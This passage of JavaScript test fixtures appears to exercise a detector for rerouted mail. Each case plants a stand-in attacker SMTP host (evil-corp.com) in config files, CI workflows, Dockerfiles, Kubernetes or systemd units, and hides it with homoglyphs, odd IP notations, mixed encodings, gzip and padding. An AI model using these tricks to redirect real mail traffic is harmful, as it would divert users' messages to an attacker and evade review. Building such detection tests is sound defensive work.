  'host-cyrillic': { '.env': 'SMTP_HOST=new-r\u0435lay.evil-corp.com\n' },
  'host-brackets': { '.env': `SMTP_HOST=[${EVIL}]\n` },
  'host-parentheses': { '.env': `SMTP_HOST="(${EVIL})"\n` },
  'host-port-word': { '.env': `SMTP_HOST="${EVIL} 25"\n` },
  'host-port-slash': { '.env': `SMTP_HOST=${EVIL}/25\n` },
  'host-port-huge': { '.env': `SMTP_HOST=${EVIL}:99999\n` },
  'host-semicolons': { '.env': `SMTP_HOST=;;${EVIL};\n` },
  'host-underscore': { '.env': 'SMTP_HOST=smtp_relay.evil-corp.com\n' },
  'host-equals': { '.env': `SMTP_HOST==${EVIL}\n` },
  'host-approved-port-other': { '.env': `SMTP_HOST="new-relay.corp.example:25 ${EVIL}:25"\n` },
  'host-approved-newline': { 'app/c.json': `{"smtp":{"host":"new-relay.corp.example\\n${EVIL}"}}` },
  'host-approved-nul': { 'app/c.json': `{"smtp":{"host":"${EVIL}\\u0000.new-relay.corp.example"}}` },
  'host-approved-hash': { 'app/c.json': `{"smtp":{"host":"${EVIL}#.new-relay.corp.example"}}` },
  'host-approved-percent-nul': { '.env': `SMTP_URL=smtp://${EVIL}%00.new-relay.corp.example\n` },
  'host-approved-escaped-dot': { '.env': 'SMTP_HOST=new-relay\\.corp\\.example.evil-corp.com\n' },
  'host-approved-at': { '.env': `SMTP_HOST=new-relay.corp.example@${EVIL}\n` },
  'host-decimal-url': { '.env': 'SMTP_URL=smtp://3221226009:25\n' },
  'host-hex-octets': { '.env': 'SMTP_HOST=0xc0.0.0x2.0x19\n' },
  'host-6to4': { '.env': 'SMTP_HOST=2002:c000:219::1\n' },
  'host-compatible': { '.env': 'SMTP_HOST=::192.0.2.25\n' },
  'host-arabic-digits': { '.env': 'SMTP_HOST=１９２.0.2.25\n' },
  'host-utf7': { '.env': '+AFMATQBUAFA-_HOST=smtp.evil-corp.com\nSMTP_HOST=+AHM-mtp.evil-corp.com\n' },
  'host-latin1': { '.env': Buffer.from(`# caf\u00e9\nSMTP_HOST=${EVIL}\n`, 'latin1') },
  'mixed-encodings': {
    '.env': Buffer.concat([utf16('A=1\n# a comment that is long enough\n'), Buffer.from(`SMTP_HOST=${EVIL}\n`)]),
  },
  'mixed-encodings-reversed': {
    '.env': Buffer.concat([
      Buffer.from('A=1\n# a comment that is long enough, much longer\n'),
      utf16(`SMTP_HOST=${EVIL}\n`),
    ]),
  },
  utf32: { '.env': Buffer.from([...`SMTP_HOST=${EVIL}\n`].flatMap((c) => [c.charCodeAt(0), 0, 0, 0])) },

  // What is deployed makes a file its own, wherever it lies.
  'test-imported-js': {
    'test/mail.js': `module.exports = { host: '${EVIL}' };\n`,
    'app/m.js': `const o = require('../test/mail');\nrequire('nodemailer').createTransport({ host: o.host });\n`,
  },
  'test-imported-py': {
    'tests/__init__.py': '',
    'tests/mailconf.py': `HOST = "${EVIL}"\n`,
    'app/m.py': 'import smtplib\nfrom tests.mailconf import HOST\nsmtplib.SMTP(HOST)\n',
  },
  'test-env-file': {
    'tests/x.env': `SMTP_HOST=${EVIL}\n`,
    'docker-compose.yml': 'services:\n  web:\n    image: x\n    env_file:\n      - tests/x.env\n',
  },
  'sample-environment-file': {
    'examples/x.env': `SMTP_HOST=${EVIL}\n`,
    'deploy/web.service': '[Service]\nEnvironmentFile=/srv/app/examples/x.env\nExecStart=/x\n',
  },
  'test-sourced': { 'spec/x.sh': `export SMTP_HOST=${EVIL}\n`, 'deploy/run.sh': 'source spec/x.sh\nnode app\n' },
  'test-copied': { 'test/x.env': `SMTP_HOST=${EVIL}\n`, Dockerfile: 'FROM x\nCOPY test/x.env /app/.env\n' },
  'test-opened': {
    'test/fixtures/mail.json': `{"smtp":{"host":"${EVIL}"}}\n`,
    'app/m.py':
      'import json, smtplib\nc = json.load(open("test/fixtures/mail.json"))\nsmtplib.SMTP(c["smtp"]["host"])\n',
  },
  'production-env-of-the-pages': { 'documentation/.env.production': `SMTP_HOST=${EVIL}\n` },
  'env-file-of-any-name': {
    'app/data.bin': `SMTP_HOST=${EVIL}\n`,
    'app/m.py':
      'import os, smtplib\nfrom dotenv import load_dotenv\nload_dotenv("app/data.bin")\nsmtplib.SMTP(os.environ["SMTP_HOST"])\n',
  },
  'compose-env-file-of-any-name': {
    'data.bin': `SMTP_HOST=${EVIL}\n`,
    'docker-compose.yml': 'services:\n  web:\n    image: x\n    env_file: data.bin\n',
  },

  // Commands within data.
  'compose-sh-c': {
    'docker-compose.yml': `services:\n  web:\n    image: w\n    command: sh -c "SMTP_HOST=${EVIL} node app.js"\n`,
  },
  'compose-sh-c-list': {
    'docker-compose.yml': `services:\n  web:\n    image: w\n    command: ["sh", "-c", "SMTP_HOST=${EVIL} exec node app.js"]\n`,
  },
  'compose-env': {
    'docker-compose.yml': `services:\n  web:\n    image: w\n    entrypoint: env SMTP_HOST=${EVIL} node app.js\n`,
  },
  'compose-export': {
    'docker-compose.yml': `services:\n  web:\n    image: w\n    command: bash -lc 'export SMTP_HOST=${EVIL} && exec node app.js'\n`,
  },
  'kubernetes-sh-c': {
    'k8s/d.yaml': `kind: Deployment\nmetadata: {name: x}\nspec:\n  template:\n    spec:\n      containers:\n        - name: x\n          command: ["/bin/sh", "-c"]\n          args: ["SMTP_HOST=${EVIL} node app.js"]\n`,
  },
  'kubernetes-block': {
    'k8s/d.yaml': `kind: Job\nmetadata: {name: x}\nspec:\n  template:\n    spec:\n      containers:\n        - name: x\n          args:\n            - -c\n            - |\n              SMTP_HOST=${EVIL} node app.js\n`,
  },
  'systemd-sh-c': { 'deploy/w.service': `[Service]\nExecStart=/bin/sh -c "SMTP_HOST=${EVIL} exec node app.js"\n` },
  'systemd-env': { 'deploy/w.service': `[Service]\nExecStart=/usr/bin/env SMTP_HOST=${EVIL} node app.js\n` },
  'systemd-set-environment': {
    'deploy/w.service': `[Service]\nExecStartPre=/bin/systemctl set-environment SMTP_HOST=${EVIL}\nExecStart=/x\n`,
  },
  ...Object.fromEntries(
    Object.entries({
      prefix: `SMTP_HOST=${EVIL} node app.js`,
      env: `env SMTP_HOST=${EVIL} node app.js`,
      file: `echo "SMTP_HOST=${EVIL}" >> "$GITHUB_ENV"`,
    }).map(([name, command]) => [
      `pipeline-run-${name}`,
      {
        '.github/workflows/deploy.yml': `on: push\njobs:\n  d:\n    runs-on: u\n    steps:\n      - run: ${command}\n`,
      },
    ]),
  ),
  'pipeline-run-here-document': {
    '.github/workflows/deploy.yml': `on: push\njobs:\n  d:\n    runs-on: u\n    steps:\n      - run: |\n          cat >> $GITHUB_ENV <<X\n          SMTP_HOST=${EVIL}\n          X\n`,
  },
  'pipeline-format': {
    '.github/workflows/deploy.yml': `on: push\njobs:\n  d:\n    env:\n      SMTP_HOST: \${{ format('{0}.evil-corp.{1}', 'smtp', 'com') }}\n`,
  },
  'npm-script': { 'package.json': JSON.stringify({ scripts: { start: `SMTP_HOST=${EVIL} node app.js` } }) },
  'npm-script-cross-env': {
    'package.json': JSON.stringify({ scripts: { start: `cross-env SMTP_HOST=${EVIL} node .` } }),
  },
  'dockerfile-cmd': { Dockerfile: `FROM x\nCMD SMTP_HOST=${EVIL} node app.js\n` },
  'dockerfile-cmd-list': { Dockerfile: `FROM x\nCMD ["sh", "-c", "SMTP_HOST=${EVIL} node app.js"]\n` },
  'dockerfile-entrypoint-env': { Dockerfile: `FROM x\nENTRYPOINT ["env", "SMTP_HOST=${EVIL}", "node"]\n` },
  'dockerfile-copy-here-document': { Dockerfile: `FROM x\nCOPY <<EOF /app/.env\nSMTP_HOST=${EVIL}\nEOF\n` },
  'script-sudo': { 'deploy/run.sh': `#!/bin/sh\nsudo SMTP_HOST=${EVIL} node app.js\n` },
  'script-ssh': { 'deploy/run.sh': `#!/bin/sh\nssh host "SMTP_HOST=${EVIL} node app.js"\n` },

  // Packed, and behind filling.
  'gzip-env': { 'deploy/env.gz': gzipSync(`SMTP_HOST=${EVIL}\n`) },
  'gzip-json': { 'app/config.json.gz': gzipSync(JSON.stringify({ smtp: { host: EVIL } })) },
  'filled-secret': {
    'app/s.yml': `kind: Secret\nmetadata: {name: x}\ndata:\n${Array.from({ length: 3000 }, (_, index) => `  K${index}: ${b64(`filling text number ${index}`)}\n`).join('')}  config.json: ${b64(`{"smtp":{"host":"${EVIL}"}}`)}\n`,
  },
  'filled-secret-with-one': {
    'app/s.yml': `kind: Secret\nmetadata: {name: x}\ndata:\n  K: ${b64('x'.repeat(2_600_000))}\n  config.json: ${b64(`{"smtp":{"host":"${EVIL}"}}`)}\n`,
  },
};
